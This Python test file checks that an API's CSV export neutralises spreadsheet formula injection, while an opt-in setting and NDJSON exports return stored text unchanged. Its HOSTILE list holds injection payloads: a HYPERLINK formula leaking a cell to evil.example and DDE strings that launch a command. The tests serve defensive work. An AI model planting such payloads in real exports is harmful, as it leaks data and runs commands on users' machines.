# CSV exports and spreadsheet formula injection: text a writer stored such
# as `=HYPERLINK(...)` came back unchanged in text/csv, and a spreadsheet opening the export
# ran it. CSV follows OWASP's guidance by default; numbers stay numbers, NDJSON stays exact,
# and `csv_formulas: allow` serves fields as stored for programs.
from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from conftest import Caller

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|'/C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\rCR=1+1",
]
HARMLESS = ["plain", "-12.5", "a=b", ""]
SQL = "SELECT id, label, amount FROM t WHERE id >= :first ORDER BY id"


def make_db(path: Path) -> None:
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, label TEXT, amount DECIMAL(8,2))")
        db.executemany(
            "INSERT INTO t VALUES (?, ?, ?)",
            [(i + 1, text, f"-{i}.50") for i, text in enumerate(HOSTILE + HARMLESS)],
        )
    db.close()


@pytest.fixture
async def api(tmp_path: Path, run_agent: Any) -> Caller:
    await asyncio.to_thread(make_db, tmp_path / "t.db")
    table = {"source": "db", "table": "t", "key": ["id"]}
    query = {"source": "db", "sql": SQL, "params": {"first": "integer"}}
    caller: Caller = await run_agent(
        {"db": {"sqlite": str(tmp_path / "t.db")}},
        {"t": table, "t_raw": {**table, "csv_formulas": "allow"}},
        queries={"q": query, "q_raw": {**query, "csv_formulas": "allow"}},
    )
    return caller


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))[1:]


async def read_csv(api: Caller, what: str) -> list[list[str]]:
    if what.startswith("q"):
        status, _, body = await api.send(
            "POST", f"/v1/queries/{what}", {"first": 1}, Accept="text/csv"
        )
    else:
        status, _, body = await api.get(f"/v1/{what}", Accept="text/csv")
    assert status == 200, body
    return rows(body)


@pytest.mark.parametrize("what", ["t", "q"])
async def test_formulas_are_defused_in_csv(api: Caller, what: str) -> None:
    """Every text field starting with =, +, -, @, tab or CR carries a leading single quote;
    other text and the negative numbers of a DECIMAL column are written as stored."""
    found = await read_csv(api, what)
    labels = [row[1] for row in found]
    assert labels == ["'" + text for text in HOSTILE] + HARMLESS
    assert [row[2] for row in found] == [f"-{i}.50" for i in range(len(found))]


@pytest.mark.parametrize("what", ["t_raw", "q_raw"])
async def test_csv_formulas_allow_serves_fields_as_stored(api: Caller, what: str) -> None:
    """With `csv_formulas: allow` the CSV carries every field exactly as stored."""
    found = await read_csv(api, what)
    assert [row[1] for row in found] == HOSTILE + HARMLESS


async def test_ndjson_stays_byte_exact(api: Caller) -> None:
    """NDJSON exports carry the stored text unchanged, whatever it starts with."""
    status, _, body = await api.get("/v1/t", Accept="application/x-ndjson")
    assert status == 200, body
    labels = [json.loads(line)["label"] for line in body.splitlines()]
    assert labels == HOSTILE + HARMLESS
